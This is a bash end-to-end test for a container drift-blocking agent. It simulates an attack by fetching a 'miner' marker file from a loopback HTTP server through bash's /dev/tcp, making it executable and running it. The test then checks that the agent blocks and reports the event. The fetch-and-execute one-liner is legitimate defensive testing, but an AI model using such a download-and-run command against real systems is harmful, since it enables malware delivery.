#!/usr/bin/env bash
# Events that explain a block, against a real podman container and an "attacker" HTTP
# server on loopback: a shell in the container downloads a "miner" over HTTP (bash's
# /dev/tcp), writes it with `tail`, makes it executable and runs it. The event must name
# the file's SHA-256 (equal to the payload's), the shell among the process's ancestors, the
# writer (tail) and the connection to the server. Then: a loop of 200 blocked execs gives
# one event plus one summary with the count (and 200 kills); the Falco shape validates
# against docs/schemas/falco-output.schema.json; /metrics is scraped over HTTP.
source "$(dirname "$0")/lib.sh"
require_root
payload_dir="${DRIFTGUARD_PAYLOAD_DIR:?}"
debian="$(test_image debian)"
work="$(mktemp -d)"
name="dg-events-$$"
AGENT_EVENTS="$work/events.jsonl"
AGENT_LOG="$work/agent.log"
server_pid=""
cleanup() {
    stop_agent
    [[ -z "$server_pid" ]] || kill "$server_pid" 2>/dev/null || true
    podman rm -f -t 0 "$name" >/dev/null 2>&1 || true
    rm -rf "$work"
}
trap cleanup EXIT

# The attacker's HTTP server on loopback, serving the "miner".
mkdir -p "$work/www"
cp "$payload_dir/marker_payload" "$work/www/miner"
miner_sha="$(sha256sum "$work/www/miner" | cut -d' ' -f1)"
miner_size="$(stat -c %s "$work/www/miner")"
python3 -m http.server --bind 127.0.0.1 0 --directory "$work/www" > "$work/server.log" 2>&1 &
server_pid=$!
for _ in $(seq 50); do
    port="$(sed -n 's/.*port \([0-9]*\).*/\1/p' "$work/server.log" | head -1)"
    [[ -n "$port" ]] && break
    sleep 0.1
done
[[ -n "$port" ]] || fail "HTTP server did not start"

podman run -d --name "$name" --network host "$debian" sleep 600 >/dev/null
download='exec 3<>/dev/tcp/127.0.0.1/'"$port"'; printf "GET /miner HTTP/1.0\r\nHost: x\r\n\r\n" >&3; cat <&3 > /tmp/miner.http; tail -c '"$miner_size"' /tmp/miner.http > /tmp/miner; chmod +x /tmp/miner'
attack() { # the exit code of the attack in a login-like shell chain
    set +e; podman exec "$name" /bin/bash -c "$download; /bin/sh -c '/tmp/miner; code=\$?; sleep 1; exit \$code'"; local code=$?; set -e
    echo "$code"
}
event_for_miner() {
    for _ in $(seq 50); do
        jq -c 'select(.file.path == "/tmp/miner" and .hook == "exec" and (has("repeat") | not))' "$AGENT_EVENTS" 2>/dev/null | head -1 | grep . && return 0
        sleep 0.1
    done
    cat "$AGENT_EVENTS" >&2
    fail "no event for /tmp/miner"
}

start_agent enforce "container "
metrics_address="$(sed -n 's|.*metrics on http://\([^/]*\)/metrics.*|\1|p' "$AGENT_LOG")"
[[ "$(attack)" == 137 ]] || fail "the miner was not blocked"
event="$(event_for_miner)"
check() { # JQ-CONDITION WHAT
    jq -e "$1" <<<"$event" >/dev/null || { echo "$event" | jq . >&2; fail "event: $2"; }
}
check '.schema == "driftguard.event/v2" and .verdict == "blocked" and .kind == "new-file"' "verdict and kind"
check ".file.sha256 == \"$miner_sha\"" "sha256 of the file"
check '.file.in_image == false and .file.size == '"$miner_size" "not in the image, size"
check '.container.name == "'"$name"'" and (.container.image.name | contains("driftguard-test/debian"))' "container and image"
check '.process.argv[0] == "/tmp/miner" and .node != ""' "argv and node"
# bash runs its last command by exec, so the downloading shell became `sh -c ...`, the
# miner's parent: the same process connected to the server and started the miner. (The
# shell lingers a second: a parent's program and argv are read from /proc, which a parent
# that exits at once may no longer have; its pid and comm come from the kernel.)
check 'any(.process.ancestry[]; .comm == "sh" and .exe == "/usr/bin/dash" and .argv[0] == "/bin/sh")' "ancestry has the shell with its program and argv"
check '.process.ppid as $p | any(.provenance.connections[]; .pid == $p)' "the connection was made by the miner's parent"
check '.provenance.last_writer.comm == "tail" and .provenance.last_writer.argv[0] == "tail"' "writer"
check "any(.provenance.connections[]; .remote == \"127.0.0.1\" and .port == $port and .protocol == \"tcp\")" "the writer's parent's connection to the server"
echo "ok: blocked miner: sha256, image comparison, ancestry (sh), writer tail, connection 127.0.0.1:$port/tcp"
jq -r '"   chain: \(.process.ancestry | reverse | map(.comm) | join(" -> ")) -> \(.process.comm) | written by \(.provenance.last_writer.comm) after \(.provenance.connections | map("\(.remote):\(.port)") | join(","))"' <<<"$event"

# Metrics over HTTP.
scrape="$(python3 -c "import urllib.request,sys; print(urllib.request.urlopen('http://$metrics_address/metrics').read().decode())")"
grep -q "driftguard_drift_total{.*container=\"$name\".*verdict=\"blocked\".*} [1-9]" <<<"$scrape" \
    || grep -q "driftguard_drift_total{.*verdict=\"blocked\".*container=\"$name\".*} [1-9]" <<<"$scrape" \
    || { grep driftguard_drift "$scrape" >&2 || true; fail "metrics: no blocked drift for $name"; }
grep -q 'driftguard_backend_info{backend="kill"} 1' <<<"$scrape" || fail "metrics: backend"
grep -q 'driftguard_backend_considered_info{backend="lsm",reason=".\+"} 0' <<<"$scrape" \
    || fail "metrics: why lsm was not taken"
grep -q 'driftguard_containers{mode="enforce"} [1-9]' <<<"$scrape" || fail "metrics: containers by mode"
grep -q 'driftguard_kernel_total{counter="events_dropped"}' <<<"$scrape" || fail "metrics: events dropped"
echo "ok: /metrics on $metrics_address: drift by verdict/kind/container, containers, backend and why not the others, kernel counters"

# Flood: 200 blocked attempts, one full event and one summary with the count.
blocked_before="$(dg_ctl status --json | jq .counters.blocked)"
podman exec "$name" /bin/bash -c 'n=0; for i in $(seq 200); do /tmp/miner; [ $? -eq 137 ] && n=$((n+1)); done; echo $n' > "$work/killed"
[[ "$(cat "$work/killed")" == 200 ]] || fail "flood: only $(cat "$work/killed") of 200 attempts were killed"
blocked_after="$(dg_ctl status --json | jq .counters.blocked)"
(( blocked_after - blocked_before == 200 )) || fail "flood: kernel counted $((blocked_after - blocked_before)) kills"
for _ in $(seq 100); do
    jq -e -s 'any(.[]; .file.path == "/tmp/miner" and .repeat.count >= 199)' "$AGENT_EVENTS" >/dev/null 2>&1 && break
    sleep 0.1
done
full="$(jq -s '[.[] | select(.file.path == "/tmp/miner" and .hook == "exec" and (has("repeat") | not) and .process.argv == ["/tmp/miner"])] | length' "$AGENT_EVENTS")"
summary="$(jq -c -s '[.[] | select(.file.path == "/tmp/miner" and has("repeat"))] | last' "$AGENT_EVENTS")"
jq -e '.repeat.count >= 199 and .repeat.first_seen <= .repeat.last_seen' <<<"$summary" >/dev/null \
    || fail "flood: no summary with the count: $summary"
(( full <= 2 )) || fail "flood: $full full events for one looping file"
"$E2E_DIR/validate_events.py" "$REPO_DIR/docs/schemas/driftguard-event.v2.schema.json" "$AGENT_EVENTS" \
    || fail "events do not match docs/schemas/driftguard-event.v2.schema.json"
echo "ok: flood: 200 attempts killed and counted; $full full event(s) + a summary of $(jq .repeat.count <<<"$summary") repeats"
stop_agent

# The Falco shape, validated against the schema written from Falco's documentation;
# events to a file.
start_agent audit "container " --output-format falco --events-file "$work/falco.jsonl"
podman exec "$name" /bin/bash -c "rm -f /tmp/miner; $download; /tmp/miner" >/dev/null 2>&1 || fail "audited miner did not run"
for _ in $(seq 50); do [[ -s "$work/falco.jsonl" ]] && break; sleep 0.1; done
[[ -s "$work/falco.jsonl" ]] || fail "no Falco event in the events file"
[[ ! -s "$AGENT_EVENTS" ]] || fail "events went to stdout despite --events-file"
"$E2E_DIR/validate_events.py" "$REPO_DIR/docs/schemas/falco-output.schema.json" "$work/falco.jsonl" \
    || fail "Falco output does not match the schema"
jq -e -s --arg sha "$miner_sha" 'any(.[]; .priority == "Warning" and .source == "driftguard" and .output_fields["driftguard.sha256"] == $sha and .output_fields["driftguard.writer"] == "tail" and (.output | contains("Drift detected")))' "$work/falco.jsonl" >/dev/null \
    || { cat "$work/falco.jsonl" >&2; fail "Falco event content"; }
# A document that breaks the shape is refused by the schema (the check can fail).
/usr/bin/python3 - "$REPO_DIR/docs/schemas/falco-output.schema.json" <<'PY' || fail "the schema accepts a malformed alert"
import json, sys, jsonschema
schema = json.load(open(sys.argv[1]))
try:
    jsonschema.validate({"time": "yesterday", "rule": "r", "priority": "Loud", "output": "o",
                         "output_fields": {}, "hostname": "h", "source": "s", "tags": []}, schema)
except jsonschema.ValidationError:
    sys.exit(0)
sys.exit(1)
PY
echo "ok: --output-format falco to --events-file: valid against the Falco schema, audit priority Warning"
echo "PASS: events explain the block"
